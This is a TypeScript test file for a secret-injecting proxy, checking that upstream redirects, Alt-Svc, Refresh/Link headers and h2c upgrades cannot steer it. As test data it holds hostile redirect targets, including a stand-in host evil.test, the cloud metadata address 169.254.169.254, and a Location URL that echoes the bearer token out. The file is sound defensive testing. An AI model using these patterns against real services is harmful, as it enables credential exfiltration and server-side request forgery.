/**
 * Contract: an upstream cannot steer the proxy. Redirects and alternative services are never followed, what would lead a
 * client past the proxy is removed, and the client's next hop is decided on like any request.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { DialCounter } from '../support/dial-counter.ts'
import { RawSandbox } from '../support/raw-sandbox.ts'
import { expectRefusal } from '../support/refusal.ts'
import { Rig } from '../support/rig.ts'
import { send } from '../support/sandbox-client.ts'

let rig: Rig
let box: RawSandbox
let dials: DialCounter

beforeAll(async () => {
  rig = await Rig.start()
  box = new RawSandbox(rig)
  dials = new DialCounter(rig.upstream.server, rig.plain.server)
})
beforeEach(() => {
  rig.upstream.clear()
  rig.plain.clear()
  dials.reset()
})
afterAll(async () => {
  await rig.stop()
})

const authorization = () => ['Authorization', `Bearer ${rig.secret.placeholder}`]

describe('a redirect', () => {
  const targets = () => [
    `https://evil.test:${rig.upstream.port}/next`,
    `http://api.test:${rig.plain.port}/next`,
    `//evil.test:${rig.upstream.port}/next`,
    '/next',
    'http://169.254.169.254/latest/meta-data/',
  ]

  it.each([300, 301, 302, 303, 307, 308])('A33 with status %d is passed on and not followed', async (status) => {
    for (const location of targets()) {
      rig.upstream.clear()
      rig.upstream.answerWith((_request, response) => response.writeHead(status, { location }).end())
      const answer = await send(rig, { headers: authorization() })
      expect([answer.status, answer.headers.location]).toEqual([status, location])
      expect(rig.upstream.requests).toHaveLength(1)
      expect(rig.plain.connections).toBe(0)
    }
  })

  it('A33 that a client follows to another host is refused, with the placeholder it still holds', async () => {
    const location = targets()[0] as string
    rig.upstream.answerWith((_request, response) => response.writeHead(302, { location }).end())
    expect((await send(rig, { headers: authorization() })).status).toBe(302)
    dials.reset()
    const { host } = new URL(location)
    const next = await box.ask(`GET ${location} HTTP/1.1`, `Host: ${host}`, box.authorization)
    await expectRefusal(rig, dials, next, 403, 'host_not_allowed')
  })

  it('A33 that a client follows to plain HTTP on the allowed host is refused', async () => {
    const location = targets()[1] as string
    const next = await box.ask(`GET ${location} HTTP/1.1`, `Host: ${new URL(location).host}`, box.authorization)
    await expectRefusal(rig, dials, next, 403, 'plaintext')
  })

  it('A33 that repeats the value in Location gives the placeholder back', async () => {
    rig.upstream.answerWith((request, response) => {
      const key = (request.headers.authorization ?? '').slice('Bearer '.length)
      response.writeHead(302, { location: `https://evil.test/?key=${key}` }).end()
    })
    const { headers } = await send(rig, { headers: authorization() })
    expect(headers.location).toBe(`https://evil.test/?key=${rig.secret.placeholder}`)
  })
})

describe('an alternative service', () => {
  it('A32 in Alt-Svc is removed and never used', async () => {
    const service = `h2="evil.test:${rig.upstream.port}"; ma=86400, h3=":443"; persist=1`
    rig.upstream.answerWith((_request, response) => response.writeHead(200, { 'alt-svc': service }).end('ok'))
    for (let i = 0; i < 2; i++) {
      const { status, headers } = await send(rig, { headers: authorization() })
      expect([status, headers['alt-svc']]).toEqual([200, undefined])
    }
    expect(rig.upstream.requests.map((request) => request.headers.host)).toEqual([
      `api.test:${rig.upstream.port}`,
      `api.test:${rig.upstream.port}`,
    ])
  })

  it('A32 in a 421, Refresh, Link or Content-Location leads the proxy nowhere', async () => {
    const elsewhere = `https://evil.test:${rig.upstream.port}/`
    rig.upstream.answerWith((_request, response) => {
      const fields = {
        refresh: `0; url=${elsewhere}`,
        link: `<${elsewhere}>; rel=preload`,
        'content-location': elsewhere,
      }
      response.writeHead(421, fields).end()
    })
    expect((await send(rig, { headers: authorization() })).status).toBe(421)
    expect(rig.upstream.requests).toHaveLength(1)
    expect(dials.count).toBe(1)
  })

  it('A32 by Upgrade-Insecure-Requests changes no scheme: plain HTTP stays plain and gets no value', async () => {
    const { port } = rig.plain
    const lines = [`GET http://api.test:${port}/ HTTP/1.1`, `Host: api.test:${port}`, 'Upgrade-Insecure-Requests: 1']
    expect((await box.ask(...lines)).status).toBe(200)
    expect(rig.plain.requests).toHaveLength(1)
    dials.reset()
    await expectRefusal(rig, dials, await box.ask(...lines, box.authorization), 403, 'plaintext')
  })

  it('A32 as an upgrade to h2c is not passed on and not agreed to', async () => {
    const { port } = rig.plain
    const lines = [`GET http://api.test:${port}/ HTTP/1.1`, `Host: api.test:${port}`]
    const upgrade = ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__']
    expect((await box.ask(...lines, ...upgrade)).status).toBe(200)
    expect(rig.plain.last.headers).not.toHaveProperty('upgrade')
    expect(rig.plain.last.headers).not.toHaveProperty('http2-settings')
  })
})
